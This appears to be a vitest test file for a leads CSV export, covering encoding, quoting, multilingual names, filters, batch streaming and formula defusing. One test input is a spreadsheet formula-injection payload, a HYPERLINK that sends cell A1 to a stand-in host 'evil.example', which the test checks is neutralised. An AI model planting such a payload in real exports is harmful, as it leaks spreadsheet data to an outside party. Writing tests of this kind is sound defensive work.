import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type FakeLlmServer, startFakeOpenAI } from "../../../test/fake-llm.ts";
import { call, createTestApp, expectError, type TestApp } from "../../../test/harness.ts";
import {
  captureDirect,
  captureViaChat,
  contactsUrl,
  fakeOpenAiEnv,
  type LeadOwner,
  leadsUrl,
  ownerWithAgent,
} from "../../../test/leads.ts";

// The CSV export read back the way a spreadsheet or an import script would read it.

let openai: FakeLlmServer;
let t: TestApp;

beforeAll(async () => {
  openai = await startFakeOpenAI();
  t = await createTestApp({ env: fakeOpenAiEnv(openai) });
});
afterAll(async () => {
  await t?.close();
  await openai?.close();
});

const HEADER = [
  "lead_id",
  "created_at",
  "updated_at",
  "status",
  "name",
  "email",
  "phone",
  "agent",
  "conversation_id",
  "visitor_note",
  "latest_note",
];

async function exportCsv(o: LeadOwner, query = "") {
  const res = await call(t.app, o.bearer, "GET", leadsUrl(o.wsId, `/export.csv${query}`));
  expect(res.statusCode, res.body).toBe(200);
  const bytes = res.rawPayload;
  const text = bytes.toString("utf8");
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { newline: "\r\n", skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const [header, ...rows] = parsed.data;
  const records = rows.map((r) => Object.fromEntries(HEADER.map((h, i) => [h, r[i]!])));
  return { res, bytes, text, header, records };
}

describe("CSV export of leads", () => {
  it("is UTF-8 with a BOM and a header, RFC 4180 quoting, Thai and Russian intact, formulas defused", async () => {
    const o = await ownerWithAgent(t.app);
    const thai = await captureViaChat(t.app, openai, o, {
      name: "สมชาย ใจดี",
      email: "somchai@example.co.th",
      note: "สนใจเมล็ดกาแฟ 20 กก.",
    });
    const russian = await captureDirect(t.app, o, {
      name: 'Иван "Ваня" Петров',
      email: "ivan@example.ru",
      note: "Первая строка\nвторая, с запятой",
    });
    const hostile = await captureDirect(t.app, o, {
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      phone: "+66 81 234 5678",
      note: "@SUM(1+1)",
    });
    const minus = await captureDirect(t.app, o, { name: "-2+3", email: "minus@example.com" });
    await call(t.app, o.bearer, "PATCH", leadsUrl(o.wsId, `/${russian.leadId}`), { status: "qualified" });
    await call(t.app, o.bearer, "POST", leadsUrl(o.wsId, `/${russian.leadId}/notes`), { body: "Old note" });
    await call(t.app, o.bearer, "POST", leadsUrl(o.wsId, `/${russian.leadId}/notes`), {
      body: "=1+1 newest",
    });

    const { res, bytes, text, header, records } = await exportCsv(o);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers["cache-control"]).toBe("no-store");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(header).toEqual(HEADER);
    // Every record ends with CRLF; the line break inside the quoted note stays as it was.
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text).toContain('"Первая строка\nвторая, с запятой"');

    const list = (await call(t.app, o.bearer, "GET", leadsUrl(o.wsId))).json().leads;
    expect(records.map((r) => r.lead_id)).toEqual(list.map((l: { id: string }) => l.id));
    const byId = new Map(records.map((r) => [r.lead_id, r]));

    expect(byId.get(thai.leadId)).toEqual({
      lead_id: thai.leadId,
      created_at: expect.stringMatching(/^\d{4}-.+Z$/),
      updated_at: expect.stringMatching(/^\d{4}-.+Z$/),
      status: "new",
      name: "สมชาย ใจดี",
      email: "somchai@example.co.th",
      phone: "",
      agent: "Mia",
      conversation_id: thai.conversationId,
      visitor_note: "สนใจเมล็ดกาแฟ 20 กก.",
      latest_note: "",
    });
    expect(byId.get(russian.leadId)).toMatchObject({
      status: "qualified",
      name: 'Иван "Ваня" Петров',
      visitor_note: "Первая строка\nвторая, с запятой",
      latest_note: "'=1+1 newest",
    });
    expect(byId.get(hostile.leadId)).toMatchObject({
      name: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
      phone: "'+66 81 234 5678",
      visitor_note: "'@SUM(1+1)",
    });
    expect(byId.get(minus.leadId)).toMatchObject({ name: "'-2+3", email: "minus@example.com" });
    // No cell of the file starts a formula.
    for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("takes the list's filters, answers an empty export with the header alone, and refuses bad filters", async () => {
    const o = await ownerWithAgent(t.app);
    const a = await captureDirect(t.app, o, { name: "Anna", email: "anna@example.com" });
    await captureDirect(t.app, o, { name: "Boris", email: "boris@example.com" });
    await call(t.app, o.bearer, "PATCH", leadsUrl(o.wsId, `/${a.leadId}`), { status: "won" });

    expect((await exportCsv(o, "?status=won")).records.map((r) => r.name)).toEqual(["Anna"]);
    expect((await exportCsv(o, "?q=boris")).records.map((r) => r.name)).toEqual(["Boris"]);
    expect((await exportCsv(o, `?agentId=${o.agentId}`)).records).toHaveLength(2);
    const empty = await exportCsv(o, "?status=lost");
    expect(empty.records).toEqual([]);
    expect(empty.text).toBe(`\uFEFF${HEADER.join(",")}\r\n`);

    const bad = (q: string) => call(t.app, o.bearer, "GET", leadsUrl(o.wsId, `/export.csv${q}`));
    expectError(await bad("?status=maybe"), 400, "VALIDATION_FAILED");
    expectError(await bad("?from=2025-02-01&to=2025-01-01"), 400, "VALIDATION_FAILED");
    expectError(await bad("?limit=10"), 400, "VALIDATION_FAILED");
  });

  it("streams every lead once, newest first, across its reading batches", async () => {
    const o = await ownerWithAgent(t.app);
    const ids = new Set<string>();
    for (let i = 0; i < 501; i++) {
      ids.add((await captureDirect(t.app, o, { email: `bulk${i}@example.com`, name: `Bulk ${i}` })).leadId);
    }
    const { records } = await exportCsv(o);
    expect(records).toHaveLength(501);
    expect(new Set(records.map((r) => r.lead_id))).toEqual(ids);
    const times = records.map((r) => r.created_at);
    expect(times).toEqual([...times].sort().reverse());
    const contacts = (await call(t.app, o.bearer, "GET", contactsUrl(o.wsId, "?limit=1"))).json();
    expect(contacts.contacts).toHaveLength(1);
  });
});
